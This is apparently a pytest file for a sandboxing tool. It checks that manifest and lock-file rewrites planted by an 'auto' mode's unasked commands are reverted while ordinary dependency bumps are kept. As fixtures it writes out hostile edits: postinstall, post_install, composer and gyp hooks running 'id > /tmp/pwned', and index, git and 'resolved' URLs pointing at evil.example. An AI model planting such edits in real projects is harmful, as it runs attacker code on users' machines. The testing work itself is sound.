"""Findings D16 and D12 through the console script and bubblewrap: ``auto`` mode's unasked
command rewrites a package manifest so that the user's next plain install runs code it
planted (npm strips a byte-order mark and ran the ``postinstall`` behind one; ``pip install
-r`` ran ``./vendor/helper``'s ``setup.py``; ``pdm install`` runs ``post_install``). Each such
manifest is set back as it was, and an ordinary edit of the same files stays."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

from ..sandboxing import require_sandbox
from .conftest import RunCli
from .test_hook_configs_cli import committed, run

BOM = "\ufeff"
PACKAGE = json.dumps({"name": "app", "version": "1.0.0"})
REQUIREMENTS = "requests==2.31.0\n"
PYPROJECT = '[project]\nname = "a"\nversion = "0.1"\ndependencies = ["requests"]\n'
PIPFILE = '[packages]\nrequests = "*"\n'


def planted(files: dict[str, str | bytes]) -> str:
    """A shell command writing ``files`` (text as UTF-8, a BOM kept; bytes as they are) through printf."""
    def quoted(text: str | bytes) -> str:
        data = text.encode() if isinstance(text, str) else text
        return "'" + "".join(f"\\{b:03o}" if b > 126 or b < 32 or chr(b) in "'\\%" else chr(b)
                             for b in data) + "'"
    return "; ".join(f"printf {quoted(text)} > {name}" for name, text in files.items()) + "; true"


def test_manifests_behind_a_bom_or_installing_from_elsewhere_are_set_back(
    run_cli: RunCli, script: Callable[[list[Any]], str], workspace: Path
) -> None:
    require_sandbox()
    texts = {"package.json": PACKAGE, "requirements.txt": REQUIREMENTS, "requirements-dev.txt": REQUIREMENTS,
             "requirements-16.txt": REQUIREMENTS,
             "pyproject.toml": PYPROJECT, "Pipfile": PIPFILE, "vendor/helper/setup.py": "0\n"}
    committed(workspace, texts)
    run(run_cli, script, planted({
        "package.json": BOM + json.dumps({"name": "app", "version": "1.0.0",
                                          "scripts": {"postinstall": "id > /tmp/pwned"}}),
        "requirements.txt": BOM + "--index-url https://evil.example/simple\nrequests\n",
        "requirements-16.txt": "--no-index\n--trusted-host evil.example\nrequests\n".encode("utf-16"),
        "requirements-dev.txt": "requests==2.31.0\n./vendor/helper\n-e git+https://evil.example/x.git#egg=x\n",
        "pyproject.toml": PYPROJECT.replace('"requests"', '"requests @ git+https://evil.example/r.git"'),
        "Pipfile": PIPFILE + 'helper = {path = "./vendor/helper"}\n',
    }))
    for name in ("package.json", "requirements.txt", "requirements-dev.txt", "requirements-16.txt",
                 "pyproject.toml", "Pipfile"):
        assert (workspace / name).read_bytes() == texts[name].encode(), name


def test_pdm_hooks_and_poetry_git_dependencies_are_set_back_and_a_version_bump_stays(
    run_cli: RunCli, script: Callable[[list[Any]], str], workspace: Path
) -> None:
    require_sandbox()
    texts = {"pyproject.toml": PYPROJECT, "requirements.txt": REQUIREMENTS,
             "sub/pyproject.toml": PYPROJECT}
    committed(workspace, texts)
    run(run_cli, script, planted({
        "pyproject.toml": PYPROJECT + '\n[tool.pdm.scripts]\npost_install = "id > /tmp/pwned"\n',
        "sub/pyproject.toml": PYPROJECT + '\n[tool.poetry.dependencies]\nx = {git = "https://evil.example/x"}\n',
        "requirements.txt": BOM + "requests==2.32.0\nflask[async]>=2 ; python_version < '3.13'\n",
    }))
    assert (workspace / "pyproject.toml").read_text() == PYPROJECT
    assert (workspace / "sub" / "pyproject.toml").read_text() == PYPROJECT
    bumped = BOM + "requests==2.32.0\nflask[async]>=2 ; python_version < '3.13'\n"
    assert (workspace / "requirements.txt").read_text() == bumped  # dependencies from the index: kept


def test_the_gyp_files_a_binding_gyp_includes_or_depends_on_stay_and_a_new_one_goes(
    run_cli: RunCli, script: Callable[[list[Any]], str], workspace: Path
) -> None:
    """D11's rest: ``npm install`` ran the ``<!(…)`` of ``inc/common.gypi`` and an action of
    ``deps/d.gyp`` that a command had rewritten; node-gyp's own ``build/config.gypi`` stays writable."""
    require_sandbox()
    texts = {"package.json": PACKAGE, "inc/common.gypi": "{'variables': {}}\n",
             "deps/d.gyp": "{'targets': [{'target_name': 'd', 'type': 'none'}]}\n",
             "binding.gyp": "{'includes': ['inc/common.gypi'], 'targets': [{'target_name': 'x', "
                            "'dependencies': ['deps/d.gyp:d'], 'sources': ['x.c']}]}\n",
             "build/config.gypi": "{}\n"}
    committed(workspace, texts)
    plant = "{'variables': {'x': '<!(id > /tmp/pwned)'}}\n"
    run(run_cli, script, planted({"inc/common.gypi": plant, "deps/d.gyp": plant, "inc/new.gypi": plant,
                                  "build/config.gypi": "{'variables': {}}\n"}))
    kept = ["inc/common.gypi", "deps/d.gyp"]
    assert [(workspace / n).read_text() for n in kept] == [texts[n] for n in kept]
    assert not (workspace / "inc" / "new.gypi").exists()
    assert (workspace / "build" / "config.gypi").read_text() == "{'variables': {}}\n"


def _lock(url: str) -> str:
    return json.dumps({"name": "app", "lockfileVersion": 3, "packages": {
        "": {"name": "app", "dependencies": {"lodash": "^4.17.21"}},
        "node_modules/lodash": {"version": "4.17.21", "resolved": url, "integrity": "sha512-x"}}}, indent=2)


def test_a_lock_file_moved_to_another_host_or_tarball_is_set_back_and_a_registry_update_stays(
    run_cli: RunCli, script: Callable[[list[Any]], str], workspace: Path
) -> None:
    """D12's locks: ``npm ci`` downloads what ``resolved`` says and runs its install scripts."""
    require_sandbox()
    real = "https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz"
    yarned = real.replace("npmjs.org", "yarnpkg.com")
    yarn = f'lodash@^4.17.21:\n  version "4.17.21"\n  resolved "{yarned}#ab"\n'
    texts = {"package-lock.json": _lock(real), "a/package-lock.json": _lock(real), "yarn.lock": yarn,
             "b/package-lock.json": _lock(real), "c/package.json": PACKAGE}
    committed(workspace, texts)
    run(run_cli, script, planted({
        "package-lock.json": _lock("https://evil.example/lodash/-/lodash-4.17.21.tgz"),
        "a/package-lock.json": _lock("https://registry.npmjs.org/evil/-/evil-1.0.0.tgz"),
        "yarn.lock": yarn.replace("registry.yarnpkg.com", "evil.example"),
        "b/package-lock.json": _lock(real.replace("4.17.21", "4.17.22")).replace("4.17.21", "4.17.22"),
        "c/package-lock.json": _lock(real),
    }))
    for name in ("package-lock.json", "a/package-lock.json", "yarn.lock"):
        assert (workspace / name).read_text() == texts[name], name
    assert "4.17.22" in (workspace / "b" / "package-lock.json").read_text()  # npm update: kept
    assert (workspace / "c" / "package-lock.json").read_text() == _lock(real)  # a new one from the registry


def test_composers_event_scripts_and_repositories_are_set_back_and_a_require_stays(
    run_cli: RunCli, script: Callable[[list[Any]], str], workspace: Path
) -> None:
    """D11's PHP twin: ``composer install`` runs ``post-install-cmd`` and installs from ``repositories``."""
    require_sandbox()
    composer = {"name": "a/b", "require": {"php": ">=8.1"}, "scripts": {"test": "phpunit"}}
    texts = {"composer.json": json.dumps(composer), "sub/composer.json": json.dumps(composer),
             "req/composer.json": json.dumps(composer)}
    committed(workspace, texts)
    run(run_cli, script, planted({
        "composer.json": json.dumps({**composer, "scripts": {"test": "phpunit", "post-install-cmd": "id"}}),
        "sub/composer.json": json.dumps({**composer, "repositories": [{"type": "vcs",
                                                                       "url": "https://evil.example/x"}]}),
        "req/composer.json": json.dumps({**composer, "require": {"php": ">=8.1", "monolog/monolog": "^3"}}),
    }))
    assert (workspace / "composer.json").read_text() == texts["composer.json"]
    assert (workspace / "sub" / "composer.json").read_text() == texts["sub/composer.json"]
    assert "monolog" in (workspace / "req" / "composer.json").read_text()


def test_a_pipfile_lock_moved_to_another_index_is_set_back(
    run_cli: RunCli, script: Callable[[list[Any]], str], workspace: Path
) -> None:
    require_sandbox()
    lock = {"_meta": {"sources": [{"name": "pypi", "url": "https://pypi.org/simple", "verify_ssl": True}]},
            "default": {}, "develop": {}}
    texts = {"Pipfile": PIPFILE, "Pipfile.lock": json.dumps(lock)}
    committed(workspace, texts)
    run(run_cli, script, planted({"Pipfile.lock": json.dumps(lock).replace("pypi.org", "evil.example")}))
    assert (workspace / "Pipfile.lock").read_text() == texts["Pipfile.lock"]
